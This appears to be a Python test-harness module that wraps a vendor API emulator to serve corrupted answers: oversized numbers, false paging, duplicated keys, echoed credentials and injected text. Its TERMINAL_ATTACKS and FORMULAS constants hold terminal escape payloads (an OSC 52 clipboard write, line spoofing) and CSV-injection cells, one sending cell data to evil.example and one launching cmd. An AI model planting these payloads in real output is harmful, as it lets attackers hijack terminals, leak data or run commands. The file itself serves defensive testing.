r"""A hostile vendor: any vendor's emulator, with its answers spoiled the way real vendors spoil them.

:class:`HostileVendor` wraps an ASGI app that speaks a vendor's wire format (a built-in sandbox from
:mod:`numbroker.sandbox`, or a third-party adapter's own emulator) and spoils what it serves, per
:class:`Defects`:

- numbers beyond any sane bound in the records' prices (``1e999999``, ``1e-999999999``), in their
  exponents (Bird-style ``{"amount", "exponent"}`` prices) and in the envelope's totals (``10^400``),
  written as raw JSON number text (no JSON library would write them);
- paging that lies: at most ``page_size`` records per answer while the envelope still says the page
  size asked for and the true total (the request is passed on asking for the smaller page, so the
  emulator's paging stays consistent, as a vendor that ignores ``per_page`` would be);
- duplicated keys: each spoiled record states its first price twice, a cheap value first;
- echoed credentials: the credentials the client sent (its auth headers, Basic auth decoded, and any
  ``secrets`` given) written back in every escaped form of :func:`escaped_forms`, in an error body
  with a given status, in a response header, or inside 200 data (the records' region-like fields and
  the purchase answers' text fields);
- vendor text that is control or formula: ``inject`` written at the start of the records' region-like
  text fields, of their ids (``inject_ids``) and of an error answer's messages (an OSC 52 clipboard
  write, a clear-screen, ``\r`` and erase-line, ``=HYPERLINK(…)``: see :data:`TERMINAL_ATTACKS` and
  :data:`FORMULAS`);
- a junk page: the records' list replaced by ``junk_bytes`` of ``1,1,1,…`` or ``{},{},…`` (a vendor whose
  page is millions of items no record could be made of).
- anything else, written by the test: ``Defects(rewrite=...)`` is given each decoded search answer (its
  records found with :func:`find_records`) and may change it in place or return another body, in which
  :class:`Raw` writes JSON text as is and :class:`Pairs` an object with a repeated key;
  ``Defects(query=...)`` rewrites each GET request's query parameters (a vendor ignoring some).

The wire format is learnt from the body itself, so it works for any vendor: the records are the
longest list of objects; a price is a number (or numeric string) under a key naming a price, fee,
rate, cost, amount or charge; an exponent is under ``exponent``; a total is an integer under
``total``, ``total_count``, ``totalCount``, ``count`` or ``total_items`` outside the records; the page
size is the query parameter ``per_page``, ``limit``, ``page_size``, ``pageSize`` or ``size``.

Use it in-process (``httpx.ASGITransport(app=HostileVendor(...))``) or over real loopback HTTP with
:func:`serve_hostile`::

    sandboxes = create_sandboxes()
    with serve_hostile(sandboxes, Defects(price=HUGE_EXPONENT)) as urls:
        providers = loopback_providers(sandboxes, urls)

Only the ``sandbox`` extra's servers are needed for loopback; this module imports neither Starlette nor
pytest.
"""

from __future__ import annotations

import base64
import contextlib
import json
import re
from collections.abc import Callable, Iterable, Iterator, Mapping, MutableMapping, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from typing import TYPE_CHECKING, Any, Final, Literal, get_args
from urllib.parse import parse_qsl, quote, quote_plus, urlencode

if TYPE_CHECKING:
    from numbroker.sandbox import Sandbox

__all__ = [
    "ESCAPINGS",
    "HUGE_EXPONENT",
    "FORMULAS",
    "HUGE_TOTAL",
    "TERMINAL_ATTACKS",
    "TINY_EXPONENT",
    "Defects",
    "HostileVendor",
    "Pairs",
    "Raw",
    "credentials_sent",
    "dump",
    "escaped_forms",
    "find_records",
    "serve_hostile",
]

HUGE_EXPONENT: Final = "1e999999"
"""A price with a million-digit magnitude."""
TINY_EXPONENT: Final = "1e-999999999"
"""A 13-byte price whose exact decimal expansion has a billion digits."""
HUGE_TOTAL: Final = "1" + "0" * 400
"""A page total of 10^400."""
TERMINAL_ATTACKS: Final = (
    "\x1b]52;c;ZWNobyBvd25lZA==\x07",  # OSC 52: write the clipboard
    "\x1b[2J\x1b[H",  # clear the screen
    "\x1b]0;fake title\x07",  # set the window title
    "\r\x1b[2Kacme: ok (10 offers)",  # overwrite the line with a fake one
    "\x9b31m\x9d8;;http://evil.example\x9c",  # C1 CSI and OSC (a hyperlink)
    "\x08\x08\x7f\u202etxt.exe",  # backspaces, DEL, a right-to-left override
)
"""Vendor text that drives a terminal if written raw."""
FORMULAS: Final = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")
"""Vendor text a spreadsheet evaluates if a CSV cell begins with it."""

Escaping = Literal[
    "raw",
    "json",
    "json_php",
    "json_unicode",
    "json_mixed",
    "json_twice",
    "url",
    "url_plus",
    "url_twice",
    "html",
    "plus_space",
    "lower",
    "upper",
    "fullwidth",
    "zero_width",
    "prefix",
    "suffix",
    "hex",
    "base64",
    "base32",
]
ESCAPINGS: Final[tuple[Escaping, ...]] = get_args(Escaping)
"""Every escaped form :func:`escaped_forms` writes a secret in."""

_PRICE_KEY = re.compile(r"price|fee|rate|cost|amount|charge", re.IGNORECASE)
_NOT_PRICE_KEY = re.compile(r"currency|center|centre|exponent|limit", re.IGNORECASE)
_TOTAL_KEYS = frozenset({"total", "total_count", "totalCount", "count", "total_items", "totalItems"})
_PAGE_SIZE_PARAMS = ("per_page", "limit", "page_size", "pageSize", "size")
_TEXT_KEY = re.compile(r"region|city|locality|state|province|rate_center|alias|message|description", re.I)
_AUTH_HEADER = re.compile(r"authorization|auth|token|key|secret|signature", re.IGNORECASE)
_ID_KEY = re.compile(r"^id$|_id$|[a-z]Id$")
_NUMERIC = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def escaped_forms(secret: str) -> dict[Escaping, str]:
    r"""``secret`` as a vendor may echo it, each form as it appears in the body's text.

    The ``json*`` forms are the text inside a JSON string literal (``json_php`` escapes ``/`` as PHP
    does by default, ``json_unicode`` escapes every character as ``\uXXXX``, ``json_mixed`` every other
    one, ``json_twice`` is JSON-escaped inside JSON); the others are text a JSON string may hold as is:
    ``plus_space`` (``+`` shown as a space, as a form-decoding vendor echoes it), ``lower``/``upper``,
    ``fullwidth`` (NFKC-equal), ``zero_width`` (a zero-width joiner between characters), ``prefix`` and
    ``suffix`` (the shortest three quarters of the secret, as in ``key tokCANA…``), and ``hex``,
    ``base64``, ``base32`` of the secret alone (unpadded).
    """
    json_text = json.dumps(secret)[1:-1]
    units = json.dumps(secret, ensure_ascii=True)[1:-1]
    raw = secret.encode("utf-8")
    part = -(-len(secret) * 3 // 4)

    def unicode_escape(char: str) -> str:
        return f"\\u{ord(char):04x}" if ord(char) <= 0xFFFF else json.dumps(char)[1:-1]  # a surrogate pair

    return {
        "raw": secret,
        "json": json_text,
        "json_php": units.replace("/", "\\/"),
        "json_unicode": "".join(unicode_escape(c) for c in secret),
        "json_mixed": "".join(unicode_escape(c) if i % 2 else json.dumps(c)[1:-1] for i, c in enumerate(secret)),
        "json_twice": json.dumps(json.dumps(secret)[1:-1])[1:-1],
        "url": quote(secret, safe=""),
        "url_plus": quote_plus(secret),
        "url_twice": quote(quote(secret, safe=""), safe=""),
        "html": "".join(f"&#x{ord(c):x};" for c in secret),
        "plus_space": secret.replace("+", " "),
        "lower": secret.lower(),
        "upper": secret.upper(),
        "fullwidth": "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in secret),
        "zero_width": "\u200d".join(secret),
        "prefix": secret[:part],
        "suffix": secret[-part:],
        "hex": raw.hex(),
        "base64": base64.b64encode(raw).decode().rstrip("="),
        "base32": base64.b32encode(raw).decode().rstrip("="),
    }


Rewrite = Callable[[Any, Mapping[str, str]], Any]
"""A custom defect: given a decoded answer and the request's query parameters, it changes the answer in place
(returning None) or returns the body to write instead."""

QueryRewrite = Callable[[dict[str, str]], dict[str, str]]
"""Rewrites a request's query parameters before the emulator sees them."""


@dataclass(frozen=True)
class Defects:
    """What a :class:`HostileVendor` spoils; all off by default.

    Attributes:
        price: raw JSON number text for the spoiled records' prices (e.g. :data:`HUGE_EXPONENT`).
        exponent: raw JSON number text for the spoiled records' ``exponent`` fields (e.g. ``1000000000``).
        total: raw JSON number text for the envelope's totals (e.g. :data:`HUGE_TOTAL`).
        page_size: serve at most this many records per answer, while saying the page size asked for.
        duplicate_keys: each spoiled record states its first price twice, ``duplicate_value`` first.
        duplicate_value: the first (cheap) value of a duplicated price key.
        records: which records of a page are spoiled: the first only, or all of them.
        echo_status: answer every request with this status and an error body echoing the credentials.
        echo_in_data: echo the credentials inside 200 data (records' and purchase answers' text fields).
        echo_header: echo the credentials in an ``X-Echo`` response header (ASCII forms only).
        escapings: the forms of :func:`escaped_forms` written.
        secrets: more strings to echo beside those the client sent.
        reencode: decode and re-encode every JSON answer, spoiling nothing (a baseline with the same cost).
        junk: replace every page's records with ``junk_bytes`` of ``1`` items (``"ones"``) or ``{}`` items
            (``"objects"``).
        junk_bytes: about how many bytes of junk items a page holds.
        inject: text written at the start of every record's region-like fields and of an error answer's
            messages (``echo_status``).
        inject_ids: write ``inject`` at the start of every record's id fields (``id``, ``*_id``, ``*Id``) too.
        rewrite: a defect of the test's own, given each decoded 2xx answer to a GET that holds records (a
            search page, or an owned-number list: see :func:`find_records`) after the defects above, with the
            query parameters the client sent; numbers in it are :class:`Raw` (exact as served).
        query: rewrites each GET request's query parameters before the emulator sees them (a vendor that
            ignores a parameter, or answers another page size than asked).
    """

    price: str | None = None
    exponent: str | None = None
    total: str | None = None
    page_size: int | None = None
    duplicate_keys: bool = False
    duplicate_value: str = "0.01"
    records: Literal["first", "all"] = "first"
    echo_status: int | None = None
    echo_in_data: bool = False
    echo_header: bool = False
    escapings: Sequence[Escaping] = ESCAPINGS
    secrets: Sequence[str] = ()
    reencode: bool = False
    junk: Literal["ones", "objects"] | None = None
    junk_bytes: int = 1024 * 1024
    inject: str | None = None
    inject_ids: bool = False
    rewrite: Rewrite | None = None
    query: QueryRewrite | None = None

    def __post_init__(self) -> None:
        if self.page_size is not None and self.page_size < 1:
            raise ValueError("Defects.page_size must be at least 1")
        for name in ("price", "exponent", "total", "duplicate_value"):
            value = getattr(self, name)
            if value is not None and not _NUMERIC.fullmatch(value):
                raise ValueError(f"Defects.{name} must be JSON number text, got {value!r}")
        unknown = set(self.escapings) - set(ESCAPINGS)
        if unknown:
            raise ValueError(f"unknown escapings: {sorted(unknown)}")

    @property
    def spoils_body(self) -> bool:
        """True when a 2xx JSON answer is rewritten."""
        return bool(
            self.price
            or self.exponent
            or self.total
            or self.duplicate_keys
            or self.echo_in_data
            or self.reencode
            or self.junk
            or self.inject
            or self.rewrite
        )


@dataclass(frozen=True)
class Raw:
    r"""JSON text written as is by :func:`dump`.

    A number no JSON library writes (``Raw("1e999999")``), or with ``string`` the exact inside of a string
    literal (an escape no JSON library chooses, such as ``\/``). A hostile vendor decodes every number of an
    answer into one, so a :class:`Defects` ``rewrite`` reads prices exactly as they were served.
    """

    text: str
    string: bool = False


@dataclass
class Pairs:
    """A JSON object written by :func:`dump` from ``items`` in order, a key possibly more than once."""

    items: list[tuple[str, Any]] = field(default_factory=list)

    @classmethod
    def repeating(cls, record: Mapping[str, Any], key: str, first: Any) -> Pairs:
        """``record`` with ``key`` written twice: ``first``, then the record's own value."""
        return cls([(key, first), *record.items()])


def dump(value: Any) -> str:
    """JSON text of ``value``: :class:`Raw` and :class:`Pairs` written as they say, a Decimal as its digits."""
    if isinstance(value, Raw):
        return f'"{value.text}"' if value.string else value.text
    if isinstance(value, Pairs):
        return "{" + ",".join(f"{json.dumps(k)}:{dump(v)}" for k, v in value.items) + "}"
    if isinstance(value, dict):
        return "{" + ",".join(f"{json.dumps(str(k))}:{dump(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list | tuple):
        return "[" + ",".join(dump(v) for v in value) + "]"
    if isinstance(value, Decimal):
        return str(value)
    return json.dumps(value, ensure_ascii=False)


def find_records(body: Any) -> list[Any] | None:
    """The records of a decoded answer, whatever the vendor: its longest list of objects (None when it has none)."""
    best: list[Any] | None = None
    stack = [body]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            stack.extend(node.values())
        elif isinstance(node, list):
            if node and all(isinstance(v, dict) for v in node) and (best is None or len(node) > len(best)):
                best = node
            stack.extend(node)
    return best


def _replace(body: Any, old: list[Any], new: Any) -> None:
    """Put ``new`` where the list ``old`` (the very object) sits in ``body``."""
    stack = [body]
    while stack:
        node = stack.pop()
        items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
        for key, value in list(items):
            if value is old:
                node[key] = new
                return
            stack.append(value)


def credentials_sent(headers: Iterable[tuple[str, str]]) -> list[str]:
    """The credentials a request carries in ``headers`` (name, value): what a vendor could echo.

    The value of every header named like a credential (``Authorization``, ``X-Auth-Token``, ``…-Key``,
    ``…-Secret``, ``…-Signature``); for ``Authorization``, the token after the scheme, and for Basic auth
    its base64 and both halves of the pair it encodes.
    """
    out: list[str] = []
    for name, value in headers:
        if not _AUTH_HEADER.search(name):
            continue
        if name.lower() != "authorization":
            out.append(value)
            continue
        scheme, _, token = value.partition(" ")
        out.append(token or scheme)
        if scheme.lower() == "basic":
            with contextlib.suppress(ValueError):
                out.extend(p for p in base64.b64decode(token).decode().split(":", 1) if p)
    return [s for s in out if s]


def _is_price(key: str, value: Any) -> bool:
    if not _PRICE_KEY.search(key) or _NOT_PRICE_KEY.search(key) or isinstance(value, bool):
        return False
    if isinstance(value, Raw):
        return not value.string
    return isinstance(value, int) or (isinstance(value, str) and bool(_NUMERIC.fullmatch(value.strip())))


def _number_text(value: Any, text: str) -> Raw:
    """``text`` in the form ``value`` had: a bare number, or a numeric string."""
    return Raw(text, string=isinstance(value, str))


class HostileVendor:
    """An ASGI app: ``app`` (a vendor's emulator) with its answers spoiled per ``defects``.

    Attributes:
        app: the emulator wrapped.
        defects: what is spoiled; may be reassigned between requests.
        requests: how many requests were answered.
        echoed: the secrets echoed so far (what a test must not find anywhere).
    """

    def __init__(self, app: Any, defects: Defects, *, secrets: Sequence[str] = ()) -> None:
        """Wrap ``app``; ``secrets`` are echoed beside what the client sends (e.g. a sandbox's credentials)."""
        self.app = app
        self.defects = defects
        self.requests = 0
        self.echoed: set[str] = set(secrets)
        self._secrets = tuple(secrets)
        self._echoes: dict[tuple[tuple[str, ...], tuple[Escaping, ...]], str] = {}  # one echo text per secrets

    async def __call__(self, scope: MutableMapping[str, Any], receive: Any, send: Any) -> None:
        """Serve one request through the emulator, spoiling its answer."""
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        self.requests += 1
        defects = self.defects
        secrets = self._sent_secrets(scope) + list(self._secrets) + list(defects.secrets)
        self.echoed.update(secrets)
        if defects.echo_status is not None:
            await self._answer(send, defects.echo_status, self._echo_body(secrets), secrets)
            return
        asked: dict[str, str] = {}
        sent = dict(parse_qsl(scope.get("query_string", b"").decode("latin-1"))) if defects.rewrite else {}
        if defects.page_size is not None or defects.query is not None:
            scope = self._rewrite_query(scope, asked)
        status, headers, body = await self._inner(scope, receive)
        content_type = next((v for k, v in headers if k.lower() == b"content-type"), b"").decode("latin-1")
        if 200 <= status < 300 and "json" in content_type and (defects.spoils_body or asked):
            with contextlib.suppress(ValueError):
                decoded = json.loads(body, parse_float=Raw)
                body = self._spoil(decoded, asked, secrets, scope["method"], sent).encode()
        await self._answer(send, status, body, secrets, headers, content_type or "application/json")

    # -- what the client sent ------------------------------------------------------------------

    @staticmethod
    def _sent_secrets(scope: Mapping[str, Any]) -> list[str]:
        headers = [(k.decode("latin-1"), v.decode("latin-1")) for k, v in scope.get("headers", ())]
        # The path and query too: a vendor echoes the URL, and account ids are path segments.
        url = f"{scope.get('path', '')}?{scope.get('query_string', b'').decode('latin-1')}"
        return credentials_sent(headers) + [part for part in re.split(r"[/?&=]", url) if len(part) >= 8]

    def _rewrite_query(self, scope: MutableMapping[str, Any], asked: dict[str, str]) -> MutableMapping[str, Any]:
        """The request as ``query`` rewrites it, asking at most ``page_size`` records (``asked``: what it asked)."""
        pairs = parse_qsl(scope.get("query_string", b"").decode("latin-1"), keep_blank_values=True)
        if self.defects.query is not None and scope.get("method") == "GET":
            pairs = list(self.defects.query(dict(pairs)).items())
        size = self.defects.page_size
        rewritten = []
        for key, value in pairs:
            if size is not None and key in _PAGE_SIZE_PARAMS and value.isdigit() and int(value) > size:
                asked[key] = value
                value = str(size)
            rewritten.append((key, value))
        return {**scope, "query_string": urlencode(rewritten).encode("latin-1")}

    # -- the emulator's answer -----------------------------------------------------------------

    async def _inner(
        self, scope: MutableMapping[str, Any], receive: Any
    ) -> tuple[int, list[tuple[bytes, bytes]], bytes]:
        status = 500
        headers: list[tuple[bytes, bytes]] = []
        chunks: list[bytes] = []

        async def capture(message: dict[str, Any]) -> None:
            nonlocal status, headers
            if message["type"] == "http.response.start":
                status, headers = message["status"], list(message.get("headers", ()))
            elif message["type"] == "http.response.body":
                chunks.append(message.get("body", b""))

        await self.app(scope, receive, capture)
        return status, headers, b"".join(chunks)

    async def _answer(
        self,
        send: Any,
        status: int,
        body: bytes,
        secrets: Sequence[str],
        headers: Sequence[tuple[bytes, bytes]] = (),
        content_type: str = "application/json",
    ) -> None:
        out = [(k, v) for k, v in headers if k.lower() not in (b"content-length", b"content-type")]
        out += [(b"content-type", content_type.encode("latin-1")), (b"content-length", str(len(body)).encode())]
        if self.defects.echo_header:
            echo = " ".join(f for s in secrets for f in self._forms(s) if f.isascii() and f.isprintable())
            out.append((b"x-echo", echo.encode("latin-1")))
        await send({"type": "http.response.start", "status": status, "headers": out})
        await send({"type": "http.response.body", "body": body})

    # -- spoiling ------------------------------------------------------------------------------

    def _forms(self, secret: str) -> list[str]:
        forms = escaped_forms(secret)
        return [forms[e] for e in self.defects.escapings]

    def _echo_strings(self, secrets: Sequence[str]) -> Raw:
        """One JSON string's inside holding every secret in every form (non-JSON forms escaped for JSON)."""
        key = (tuple(secrets), tuple(self.defects.escapings))
        text = self._echoes.get(key)
        if text is None:
            parts = []
            for secret in secrets:
                forms = escaped_forms(secret)
                for name in self.defects.escapings:
                    form = forms[name]
                    parts.append(form if name.startswith("json") else json.dumps(form, ensure_ascii=False)[1:-1])
            text = self._echoes[key] = "echo: " + " ".join(parts)
        return Raw(text, string=True)

    def _echo_body(self, secrets: Sequence[str]) -> bytes:
        echo = self._echo_strings(secrets)
        if self.defects.inject is not None:
            echo = Raw(json.dumps(self.defects.inject, ensure_ascii=False)[1:-1] + echo.text, string=True)
        envelope = {
            "status": "error",
            "error": {"code": "ECHO", "message": echo},
            "message": echo,
            "errors": [echo],
            "requestId": echo,
        }
        return dump(envelope).encode()

    def _spoil(
        self, body: Any, asked: Mapping[str, str], secrets: Sequence[str], method: str, sent: Mapping[str, str]
    ) -> str:
        defects = self.defects
        records = find_records(body)
        if records is not None and method == "GET" and defects.junk is not None:
            item = "1" if defects.junk == "ones" else "{}"
            junk = Raw("[" + ",".join([item] * max(1, defects.junk_bytes // (len(item) + 1))) + "]")
            _replace(body, records, junk)
            records = None
        elif records is not None and method == "GET":
            if defects.page_size is not None:
                del records[defects.page_size :]
            for index in range(len(records) if defects.records == "all" else min(1, len(records))):
                records[index] = self._spoil_record(records[index], secrets)
        elif defects.echo_in_data and isinstance(body, dict):
            body = self._echo_text_fields(body, secrets)
        self._spoil_envelope(body, records, asked)
        if defects.rewrite is not None and records is not None and method == "GET":
            changed = defects.rewrite(body, sent)
            body = body if changed is None else changed
        return dump(body)

    def _spoil_record(self, record: dict[str, Any], secrets: Sequence[str]) -> Any:
        defects = self.defects
        out: dict[str, Any] = {}
        for key, value in record.items():
            if isinstance(value, dict):
                value = self._spoil_record(value, secrets)
            elif defects.price is not None and _is_price(key, value):
                value = _number_text(value, defects.price)
            elif defects.exponent is not None and key == "exponent" and isinstance(value, int | str):
                value = _number_text(value, defects.exponent)
            elif defects.echo_in_data and isinstance(value, str) and _TEXT_KEY.search(key):
                value = Raw(json.dumps(value, ensure_ascii=False)[1:-1] + " " + self._echo_strings(secrets).text, True)
            if defects.inject is not None and isinstance(value, str) and _TEXT_KEY.search(key):
                value = defects.inject + value
            elif (
                defects.inject is not None
                and defects.inject_ids
                and isinstance(value, str | int)
                and _ID_KEY.search(key)
            ):
                value = f"{defects.inject}{value}"
            out[key] = value
        if not defects.duplicate_keys:
            return out
        pairs = list(out.items())
        for key, value in pairs:
            if _is_price(key, value):
                return Pairs([(key, _number_text(value, defects.duplicate_value)), *pairs])
        return out

    def _echo_text_fields(self, body: dict[str, Any], secrets: Sequence[str]) -> dict[str, Any]:
        out: dict[str, Any] = {}
        for key, value in body.items():
            if isinstance(value, dict):
                value = self._echo_text_fields(value, secrets)
            elif isinstance(value, str) and _TEXT_KEY.search(key):
                value = Raw(json.dumps(value, ensure_ascii=False)[1:-1] + " " + self._echo_strings(secrets).text, True)
            out[key] = value
        return out

    def _spoil_envelope(self, body: Any, records: list[Any] | None, asked: Mapping[str, str]) -> None:
        stack = [body]
        while stack:
            node = stack.pop()
            if not isinstance(node, dict):
                continue
            for key, value in node.items():
                if isinstance(value, dict):
                    stack.append(value)
                elif value is records:
                    continue
                elif self.defects.total is not None and key in _TOTAL_KEYS and isinstance(value, int):
                    node[key] = Raw(self.defects.total)
                elif key in asked and isinstance(value, int):
                    node[key] = int(asked[key])  # the page size asked for, echoed falsely


@contextlib.contextmanager
def serve_hostile(
    sandboxes: Mapping[str, Sandbox], defects: Mapping[str, Defects] | Defects, **options: Any
) -> Iterator[dict[str, str]]:
    """Serve ``sandboxes`` over loopback, each behind a :class:`HostileVendor` (by key, or all alike).

    The sandboxes' own credentials are echoed too. Keys without defects are served clean.

    Yields:
        Key -> the vendor base URL, as :func:`numbroker.sandbox.serve_sandboxes` yields.
    """
    from numbroker.sandbox import LoopbackServer

    with contextlib.ExitStack() as stack:
        urls: dict[str, str] = {}
        for key, sandbox in sandboxes.items():
            chosen = defects.get(key) if isinstance(defects, Mapping) else defects
            app: Any = sandbox.app
            if chosen is not None:
                app = HostileVendor(app, chosen, secrets=[v for v in sandbox.env.values() if v])
            server = stack.enter_context(LoopbackServer(app, **options))
            urls[key] = server.base_url + sandbox.base_path
        yield urls
